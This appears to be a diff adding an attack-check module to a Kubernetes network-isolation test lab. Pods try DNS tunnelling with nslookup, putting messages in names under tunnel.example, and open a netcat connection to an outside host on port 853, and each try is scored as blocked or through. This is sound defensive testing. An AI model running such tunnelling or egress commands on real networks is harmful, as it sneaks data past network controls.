@@ -1,0 +1,92 @@
+import { type Attack, type Outcome, refused, through } from '../_types';
+import { inNamespace, type World } from '../_world';
+
+let questions = 0;
+
+/** Asks for a name in which a message stands that nobody has sent before. */
+async function tunnel(world: World, server?: string): Promise<Outcome> {
+  questions += 1;
+  const name = `message-${questions}.tunnel.example`;
+  const command = ['timeout', '3', 'nslookup', '-type=a', name, ...(server ? [server] : [])];
+  const { code, stdout, stderr } = await world.inPod(...command);
+  const has = () => world.lab.internet.queries().some((query) => query.name === name);
+  if (has()) return through('the name has come to a DNS outside');
+  const answer = /NXDOMAIN|REFUSED|timed out/.exec(stdout + stderr)?.[0] ?? `ended with ${code}`;
+  return refused(`nslookup: ${answer}, and the name stayed inside`);
+}
+
+/** What is rendered where `cluster.resolver` is not chosen. */
+const ASK_THE_CLUSTER = {
+  apiVersion: 'networking.k8s.io/v1',
+  kind: 'NetworkPolicy',
+  metadata: { name: 'allow-cluster-dns' },
+  spec: {
+    podSelector: {},
+    policyTypes: ['Egress'],
+    egress: [
+      {
+        to: [
+          {
+            namespaceSelector: { matchLabels: { 'kubernetes.io/metadata.name': 'kube-system' } },
+            podSelector: { matchLabels: { 'k8s-app': 'kube-dns' } },
+          },
+        ],
+        ports: [{ port: 53, protocol: 'UDP' }],
+      },
+    ],
+  },
+};
+
+export const NAMES: readonly Attack[] = [
+  {
+    name: 'dns-outside',
+    way: 'b',
+    title: 'asks a DNS server outside',
+    locks: ['network-policies'],
+    attempt: (world) => tunnel(world, world.lab.topology.internet.dns),
+  },
+  {
+    name: 'dns-over-tls',
+    way: 'b',
+    title: 'opens a connection to a DNS server outside, over TLS',
+    locks: ['network-policies'],
+    attempt: async (world) => {
+      const before = await world.packets('tcp dport 853');
+      const { code } = await world.inPod('timeout', '2', 'nc', '-w', '1', world.lab.topology.internet.web, '853');
+      const arrived = (await world.packets('tcp dport 853')) > before;
+      return arrived ? through('the connection has arrived outside') : refused(`nc ended with ${code}`);
+    },
+  },
+  {
+    name: 'dns-of-the-cluster',
+    way: 'b',
+    title: 'hides a message in a name, and asks the cluster’s own DNS, which forwards',
+    locks: ['network-policies'],
+    attempt: (world) => tunnel(world, world.lab.topology.dns),
+  },
+  {
+    name: 'dns-of-the-tenants',
+    way: 'b',
+    title: 'hides a message in a name, and asks the DNS that it is given',
+    locks: ['resolver', 'resolver-policies'],
+    attempt: (world) => tunnel(world),
+  },
+  {
+    name: 'dns-without-resolver',
+    way: 'b',
+    title: 'hides a message in a name, where `cluster.resolver` is not chosen',
+    locks: [],
+    exclusive: true,
+    remains:
+      'pods then ask the cluster’s DNS, which asks the world: choose `cluster.resolver`, by which only Squid resolves',
+    attempt: async (world) => {
+      await world.create(inNamespace('networking.k8s.io/v1:networkpolicies'), ASK_THE_CLUSTER, world.lab.api);
+      let outcome = refused('not tried');
+      await world.lab.waitFor('the policy holds', async () => {
+        outcome = await tunnel(world, world.lab.topology.dns);
+        return outcome.through;
+      });
+      return outcome;
+    },
+  },
+];
